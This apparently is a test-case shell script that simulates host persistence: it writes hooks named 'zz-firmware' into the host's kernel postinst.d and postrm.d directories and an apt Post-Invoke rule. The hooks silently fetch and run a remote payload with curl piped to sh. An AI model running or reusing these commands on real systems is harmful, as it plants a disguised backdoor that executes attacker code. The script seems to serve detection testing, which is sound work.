#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/kernel/postinst.d /host/etc/kernel/postrm.d /host/etc/apt/apt.conf.d /host/etc/yum/pluginconf.d
printf '#!/bin/sh\n(curl -fsSL http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &\n' | tee /host/etc/kernel/postinst.d/zz-firmware >/host/etc/kernel/postrm.d/zz-firmware
chmod 755 /host/etc/kernel/postinst.d/zz-firmware /host/etc/kernel/postrm.d/zz-firmware
echo 'DPkg::Post-Invoke { "/etc/kernel/postinst.d/zz-firmware || true"; };' >/host/etc/apt/apt.conf.d/05firmware
took_place
